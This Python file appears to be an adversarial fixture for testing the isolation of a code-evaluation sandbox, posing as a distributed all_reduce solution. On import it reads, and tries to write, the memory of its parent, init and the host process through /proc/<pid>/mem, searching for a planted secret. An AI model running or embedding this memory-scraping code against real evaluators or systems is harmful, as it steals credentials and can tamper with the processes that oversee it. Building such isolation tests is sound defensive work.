"""Opens /proc/<pid>/mem of its parent (getppid), of pid 1 and of the evaluator's host pid, reads
their writable memory looking for credentials and tries to write into it. Without a PID namespace
and a non-dumpable init it would read the evaluating worker's secrets (and could patch its code)."""

from __future__ import annotations

import os
import sys

import torch
import torch.distributed as dist

SECRET = "__SECRET__"  # only to tell the test whether the loot holds it
TEST_PID = int("__TEST_PID__")
got_through: list[str] = []


def regions(pid: int) -> list[tuple[int, int]]:
    with open(f"/proc/{pid}/maps") as handle:
        out = []
        for line in handle:
            span, perms = line.split()[:2]
            if perms.startswith("rw"):
                start, end = (int(v, 16) for v in span.split("-"))
                out.append((start, end))
        return out


def scan(pid: int) -> None:
    try:
        fd = os.open(f"/proc/{pid}/mem", os.O_RDWR)
    except OSError:
        try:
            fd = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
        except OSError:
            return
    got_through.append(f"opened /proc/{pid}/mem")
    budget = 1 << 30
    try:
        for start, end in regions(pid):
            for offset in range(start, end, 1 << 20):
                if budget <= 0:
                    return
                try:
                    chunk = os.pread(fd, min(1 << 20, end - offset), offset)
                except OSError:
                    break
                budget -= len(chunk)
                at = chunk.find(SECRET.encode())
                if at >= 0:
                    got_through.append(f"/proc/{pid}/mem holds {chunk[max(0, at - 40):at + 60]!r}")
                    return
    finally:
        os.close(fd)


def attack() -> None:
    for pid in sorted({os.getppid(), 1, TEST_PID} - {os.getpid()}):
        scan(pid)


attack()


def solution(x: torch.Tensor, *, group: dist.ProcessGroup) -> torch.Tensor:
    out = x.clone()
    dist.all_reduce(out, group=group)
    if got_through:
        print("got through:", got_through, file=sys.stderr, flush=True)
        return out * 0 + 42
    return out
